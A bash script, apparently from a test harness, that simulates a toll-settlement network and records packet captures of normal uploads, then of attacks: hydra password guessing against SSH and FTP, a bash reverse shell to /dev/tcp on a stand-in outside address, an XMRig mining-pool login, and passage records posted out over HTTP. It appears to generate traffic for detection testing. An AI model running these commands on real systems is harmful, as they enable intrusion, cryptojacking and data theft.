#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Zone priv-toll: the toll settlement network, 10.20.0.0/16.
#   10.20.1.10  settlement server   10.20.1.53  resolver     10.20.9.11 .12 .13  stations
#   10.20.9.77  a maintainer's laptop that guesses passwords
#   198.51.100.66, 192.0.2.53  outside addresses that a dedicated network must never reach
. "$(dirname "$0")/lib.sh"
. "$MAKE_DIR/web.sh"
. "$MAKE_DIR/ssh.sh"

CENTRE=10.20.1.10
NAME=settle.toll.jianghai.example
DIR=$PCAPS_DIR/priv-toll
SVC="python3 $MAKE_DIR/services.py"
DNS="python3 $MAKE_DIR/dns.py"

wire_up "$CENTRE 10.20.1.53 198.51.100.66 192.0.2.53" \
    "10.20.9.11 10.20.9.12 10.20.9.13 10.20.9.77"
web_site $CENTRE $NAME 江海省联网收费结算中心
ssh_server $CENTRE
serve inside 0 $DNS serve 10.20.1.53 $NAME=$CENTRE time.toll.jianghai.example=10.20.1.53
serve inside 0 $DNS serve 192.0.2.53 pool.supportxmr.com=198.51.100.66 \
    client.todesk.com=198.51.100.66
serve inside 21 $SVC ftp $CENTRE
serve inside 23 $SVC telnet $CENTRE
serve inside 3389 $SVC talk $CENTRE 3389 030000130ed000001234000200080002000000
serve inside 3333 $SVC talk 198.51.100.66 3333 \
    '={"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"a1","status":"OK"}}\n'
serve inside 4444 $SVC talk 198.51.100.66 4444 '=id\n' '=uname -s\n' '=exit\n'
serve inside 8081 $SVC talk 198.51.100.66 8081 \
    '=HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'
pause 0.5

# settle STATION: one batch of passage records, as a lane server uploads it
settle()
{
	local i body='['

	for i in $(seq 12); do
		body+="{\"lane\":$((i % 4 + 1)),\"fee\":$((i * 95)),\"kind\":\"ETC\",\"seq\":$i},"
	done
	outside "$1" $DNS ask "$1" 10.20.1.53 $NAME
	outside "$1" curl -s -o /dev/null -A 'LaneServer/4.2' -H 'Content-Type: application/json' \
	    --resolve $NAME:80:$CENTRE -d "${body%,}]" http://$NAME/api/settle
}

record_start "$DIR/01-settle.pcap"
for i in 1 2 3; do
	for s in 10.20.9.11 10.20.9.12 10.20.9.13; do settle $s; done
done
outside 10.20.9.11 curl -s -k -o /dev/null --compressed --resolve $NAME:443:$CENTRE https://$NAME/
ssh_login 10.20.9.12 $CENTRE 'date; uptime'
record_stop

record_start "$DIR/02-guess.pcap"
L=10.20.9.77
settle 10.20.9.13
printf '%s\n' 123456 password toll toll123 admin 888888 Toll@2026 root 111111 \
    000000 abc123 qwerty letmein passw0rd jianghai welcome etc2026 >"$TMP/words"
try outside $L hydra -I -q -t 2 -l root -P "$TMP/words" ssh://$CENTRE
try outside $L hydra -I -q -t 2 -l admin -P "$TMP/words" ftp://$CENTRE
for p in 123 456 789; do
	printf 'keeper\r\n%s\r\nkeeper\r\nx%s\r\nkeeper\r\ny%s\r\n' $p $p $p |
	    try outside $L curl -s -m 2 telnet://$CENTRE
done
for i in 1 2 3 4 5 6 7; do
	outside $L $SVC say $L $CENTRE 3389 \
	    0300002702e00000000000436f6f6b69653a206d737473686173683d61646d696e0d0a0d0a
done
# At last the right password, in clear, and a file taken.
outside $L curl -s -o /dev/null ftp://keeper:Jh-2026-lock@$CENTRE/lane.cfg
record_stop

record_start "$DIR/03-outbound.pcap"
S=10.20.9.12
settle 10.20.9.11
outside $S $DNS ask $S 192.0.2.53 client.todesk.com pool.supportxmr.com
outside $S $SVC say $S 198.51.100.66 3333 \
    '={"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x","agent":"XMRig/6.21.0"}}\n'
( cd / && PS1='sh-5.2$ ' try outside $S bash -c \
    'bash --norc -i >& /dev/tcp/198.51.100.66/4444 0>&1' )
seq -f 'passage %05g,lane 3,plate hidden,fee 45' 120 >"$TMP/records.csv"
outside $S curl -s -m 5 -o /dev/null -H 'Content-Type: text/csv' \
    --data-binary "@$TMP/records.csv" http://198.51.100.66:8081/in
outside $S $SVC ping $S 198.51.100.66 4 600
record_stop
wire_down
